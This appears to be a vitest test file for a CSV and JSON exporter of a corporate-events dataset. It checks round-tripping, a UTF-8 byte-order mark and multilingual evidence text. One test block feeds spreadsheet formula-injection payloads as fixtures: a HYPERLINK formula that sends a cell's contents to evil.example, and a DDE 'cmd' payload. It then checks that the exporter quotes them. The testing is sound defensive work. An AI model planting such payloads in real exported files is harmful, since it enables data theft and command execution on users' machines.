import { csvParse } from "d3-dsv";
import { describe, expect, it } from "vitest";
import { toCsv, toJson } from "../../../src/app/export/exportEvents.ts";
import type { Dataset } from "../../../src/model/dataset.ts";
import { makeEvent } from "../../support/makeEvent.ts";
import { SAMPLE } from "../../support/sampleDataset.ts";

const tricky = makeEvent("amazon-seller-ban-2021", {
  title: 'Amazon bans "Shenzhen Youkeshu", Technology; again',
  type: "seller-ban",
  date: "2021",
  companies: ["zoom", "jd-com"],
  counterparty: "Shenzhen Youkeshu Technology",
  countries: ["CN", "US"],
  curated: { date: "filing of 2021" },
  sources: [
    {
      id: "vi",
      evidence: 'Amazon mới đây đã đóng cửa 340 cửa hàng, "trực tuyến"\ncủa Youkeshu.',
      primary: true,
    },
    {
      id: "ar",
      evidence: "قالت Zoom يوم الاثنين إنها ستتوقف عن بيع المنتجات، مباشرةً",
      primary: false,
    },
  ],
});
const dataset: Dataset = { ...SAMPLE, events: [...SAMPLE.events, tricky] };

describe("CSV export", () => {
  const csv = toCsv(dataset.events, dataset);

  it("starts with a byte-order mark so spreadsheets read it as UTF-8", () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
  });

  it("round-trips: parsing it back gives the same events and text", () => {
    const rows = csvParse(csv.slice(1));
    expect(rows).toHaveLength(dataset.events.length);
    const back = rows.map((row) => ({
      id: row.id,
      title: row.title,
      type: row.type,
      date: row.date || null,
      effective: row.effective || null,
      companies: row.companies?.split(";"),
      countries: row.countries?.split(";"),
      counterparty: row.counterparty || null,
      sources: [1, 2]
        .filter((k) => row[`source${k}_id`])
        .map((k) => ({
          id: row[`source${k}_id`],
          evidence: row[`source${k}_evidence`],
          primary: row[`source${k}_primary`] === "true",
        })),
    }));
    expect(back).toEqual(
      dataset.events.map((e) => ({
        id: e.id,
        title: e.title,
        type: e.type,
        date: e.date,
        effective: e.effective,
        companies: e.companies,
        countries: e.countries,
        counterparty: e.counterparty,
        sources: e.sources,
      })),
    );
  });

  it("carries source URLs, languages and company names", () => {
    const row = csvParse(csv.slice(1)).find((r) => r.id === tricky.id);
    expect(row?.company_names).toBe("Zoom; JD.com");
    expect(row?.source1_language).toBe("vi");
    expect(row?.source2_language).toBe("ar");
    expect(row?.curated_fields).toBe("date");
  });
});

describe("CSV export of hostile text", () => {
  const hostile = makeEvent("zoom-exit-2021", {
    title: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    summary: "+1+cmd|' /C calc'!A0",
    date: "2021-05~",
    confidence: 0.25,
    counterparty: "-2+3",
    curated: { "@SUM(1)": "x" },
    sources: [{ id: "vi", evidence: "\t=1+1", primary: true }],
  });
  const named: Dataset = {
    ...SAMPLE,
    companies: SAMPLE.companies.map((c) => (c.id === "zoom" ? { ...c, name: "=Zoom" } : c)),
    sources: SAMPLE.sources.map((s) => (s.id === "vi" ? { ...s, title: "\r=2" } : s)),
  };
  const row = csvParse(toCsv([hostile], named).slice(1))[0];

  it("opens every text cell that would start a formula as text, with a leading quote", () => {
    expect(row).toMatchObject({
      title: `'${hostile.title}`,
      summary: "'+1+cmd|' /C calc'!A0",
      counterparty: "'-2+3",
      company_names: "'=Zoom",
      curated_fields: "'@SUM(1)",
      source1_evidence: "'\t=1+1",
      source1_title: "'\r=2",
    });
  });

  it("leaves the dates, numbers and flags it writes itself, and ordinary text, unchanged", () => {
    expect(row).toMatchObject({
      id: "zoom-exit-2021",
      date: "2021-05~",
      confidence: "0.25",
      primary: "true",
      companies: "zoom",
      source1_primary: "true",
    });
  });
});

describe("JSON export", () => {
  it("carries the dataset's fields plus each source's URL, language and evidence", () => {
    const json = JSON.parse(toJson([tricky], dataset, "?t=seller-ban&v=1"));
    expect(json.view).toBe("?t=seller-ban&v=1");
    expect(json.events[0]).toMatchObject({
      id: tricky.id,
      title: tricky.title,
      date: "2021",
      curated: { date: "filing of 2021" },
    });
    expect(json.events[0].sources[1]).toEqual({
      id: "ar",
      evidence: tricky.sources[1]?.evidence,
      primary: false,
      url: null,
      language: "ar",
      title: "وقف المبيعات المباشرة للخدمات للمستخدمين في الصين",
    });
  });
});
